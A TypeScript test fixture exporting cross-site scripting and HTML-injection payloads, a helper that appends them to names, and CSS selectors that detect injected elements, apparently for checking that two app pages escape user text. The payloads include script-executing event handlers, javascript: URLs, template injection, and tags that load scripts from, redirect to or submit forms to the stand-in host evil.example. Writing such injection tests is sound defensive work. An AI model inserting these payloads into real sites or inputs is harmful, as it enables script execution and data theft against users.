/** Texts that are harmless as text, and run `attacked()` or load from elsewhere where a page takes them for more. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<img src=x onerror=attacked()>',
  '"><script>attacked()</script>',
  '</textarea><svg onload=attacked()>',
  "' onfocus=attacked() autofocus x='",
  'javascript:attacked()',
  '<iframe srcdoc="<script>parent.attacked()</script>">',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><button>',
  '{{constructor.constructor("attacked()")()}}',
  '<script src=//evil.example/x.js></script>',
  '&lt;script&gt;attacked()&lt;/script&gt;',
  '<a href="javascript:attacked()">',
];

/** All of them in one text. */
export const HOSTILE_TEXT = HOSTILE_TEXTS.join(' ');

/** A name of at most 127 characters, as quick connects may have. */
export const hostileName = (name: string): string => `${name}<img src=x onerror=attacked()>"><script>attacked()</script>`;

/** What shows in a page that took a text for more: elements and attributes that neither the desk nor the report page has. */
export const INJECTED = [
  'img[src="x"]',
  'script:not([src])',
  'script[src*="evil"]',
  'base',
  'iframe[srcdoc]',
  'meta[http-equiv]',
  'form[action*="evil"]',
  'style',
  '[onerror], [onload], [onfocus], [onclick], [onmouseover]',
  'a[href^="javascript:" i]',
].join(', ');
